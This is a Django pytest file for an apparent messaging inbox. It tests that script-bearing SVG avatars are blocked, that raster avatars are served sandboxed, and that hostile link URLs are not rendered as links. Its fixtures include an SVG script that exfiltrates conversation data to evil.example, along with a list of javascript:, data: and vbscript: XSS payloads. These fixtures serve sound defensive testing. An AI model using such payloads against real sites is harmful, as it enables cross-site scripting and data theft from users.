"""Hostile content from platforms never runs in the agent's browser: avatars are served only as
raster images, sandboxed, and a platform URL is a link only when it is http(s)."""

from __future__ import annotations

import pytest
from django.test import Client

from inbox.models import Attachment
from tests.factories import ContactFactory, ConversationFactory, MessageFactory
from tests.fakes.server import Reply

pytestmark = pytest.mark.django_db

SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/v1/conversations/")'
    b".then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"
    b"</script></svg>"
)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"


def login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def avatar_of(account, fake_platforms, path: str) -> str:
    contact = ContactFactory(avatar_url=f"{fake_platforms.url}{path}")
    ConversationFactory(account=account, contact=contact)
    return f"/contacts/{contact.pk}/avatar/"


@pytest.mark.parametrize("claimed_type", ["image/svg+xml", "image/png", "application/octet-stream"])
def test_an_svg_avatar_is_never_served_from_parley(
    account, agent, fake_platforms, claimed_type, caplog
):
    url = avatar_of(account, fake_platforms, "/cdn/avatar.svg")
    fake_platforms.script(
        "GET", r"/cdn/avatar\.svg$", Reply(raw=SVG_WITH_SCRIPT, content_type=claimed_type)
    )

    response = login(agent).get(url)

    assert response.status_code == 404
    assert b"<script>" not in response.content
    assert "not a raster image" in caplog.text


def test_a_raster_avatar_is_served_sandboxed_with_the_type_of_its_bytes(
    account, agent, fake_platforms
):
    url = avatar_of(account, fake_platforms, "/cdn/avatar.png")
    # The server says HTML; the bytes say PNG: the browser is told PNG and must not sniff.
    fake_platforms.script("GET", r"/cdn/avatar\.png$", Reply(raw=PNG, content_type="image/png"))

    response = login(agent).get(url)

    assert response.status_code == 200
    assert response.content == PNG
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]


HOSTILE_URLS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/phish",
    "https:evil.example",
]


@pytest.mark.parametrize("kind", ["link", "share"])
@pytest.mark.parametrize("hostile", HOSTILE_URLS)
def test_a_card_with_a_hostile_url_is_shown_without_a_link(account, agent, kind, hostile):
    conversation = ConversationFactory(account=account)
    message = MessageFactory(conversation=conversation, text="look")
    Attachment.objects.create(message=message, kind=kind, url=hostile, name="Summer sale")

    html = login(agent).get(f"/conversations/{conversation.pk}/").content.decode()

    card = html[html.index(f"kind-{kind}") :]
    card = card[: card.index("</div>")]
    assert "Summer sale" in card
    assert "href" not in card
    assert "javascript" not in html.lower() and "data:text/html" not in html


def test_a_card_with_an_https_url_is_a_safe_link(account, agent):
    conversation = ConversationFactory(account=account)
    message = MessageFactory(conversation=conversation, text="look")
    Attachment.objects.create(
        message=message, kind="link", url="https://shop.example/sale?a=1&b=2", name="Sale"
    )

    html = login(agent).get(f"/conversations/{conversation.pk}/").content.decode()

    assert (
        '<a href="https://shop.example/sale?a=1&amp;b=2" target="_blank" '
        'rel="noopener noreferrer">Sale</a>' in html
    )
